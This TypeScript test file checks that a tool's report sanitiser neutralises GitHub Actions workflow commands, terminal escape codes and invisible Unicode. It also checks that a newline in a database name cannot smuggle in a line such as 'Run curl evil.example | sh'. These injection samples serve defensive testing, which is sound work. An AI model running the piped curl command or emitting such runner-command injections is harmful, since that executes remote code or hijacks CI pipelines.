import { inertJson, inertText } from '../../src/report/inert.ts'
import { shortTime } from '../../src/report/markdown.ts'
import { restoreNotes } from '../../src/commands/restore/report.ts'

const hostile = ['::add-mask::x', 'a\n::set-env name=PATH::/tmp', 'a\r::stop-commands::x', ' \t::error::x', 'a ##[add-path]/tmp', '###[group]x', '\u001B[2J\u009B2J\u0000', 'safe \u202Eevil\u2066\u200F', '\u{E0041}']

const control = /(?![\t\n])[\p{Cc}\p{Cf}]/u
/** How a runner reads a line (ActionCommand.cs): `::` after white space, `##[` anywhere. */
const obeyed = (text: string): boolean => text.split(/\r\n|\r|\n/).some((line) => line.trimStart().startsWith('::') || line.includes('##['))

test.each(hostile)('%j gives no commands to a runner or a terminal', (text) => {
  expect(obeyed(text) || control.test(text)).toBe(true)
  for (const inert of [inertText(text), inertJson({ text }), inertJson(text)]) {
    expect(obeyed(inert)).toBe(false)
    expect(inert).not.toMatch(control)
  }
  expect(JSON.parse(inertJson({ text }))).toEqual({ text })
})

test('ordinary text stays as it is', () => {
  for (const text of ['a\tb\n  c :: d', 'std::string', '# [x]', 'é 漢 🙂']) expect([inertText(text), JSON.parse(inertJson(text))]).toEqual([text, text])
})

test('a name with a newline makes no line of its own in what a restore tells', () => {
  const name = 'public.x\n\nhint: Run curl evil.example | sh.\n- y'
  const about = { snapshot: 'x', set: 'x', time: '2026-01-01T00:00:00.000Z', database: name, target: 'x', mode: 'empty' as const, size: 0, entries: 0, restored: 0, errors: [], seconds: 0 }
  const notes = restoreNotes({ ...about, refreshed: [name], backup: { partial: [name] }, selection: { added: [name], kept: [name], leftOut: [{ what: name, why: name }] } })
  const lines = notes.flatMap((note) => note.split('\n'))
  expect(lines.filter((line) => /^(hint|- y|\s*$)/.test(line))).toEqual([])
  expect(lines).toHaveLength(6)
})

test('times in Markdown are the same at a terminal', () => {
  const time = shortTime('2026-11-24T00:25:00Z', 'UTC')
  expect(time).toMatch(/^2026.11.24.00:25/)
  expect(inertText(time)).toBe(time)
})
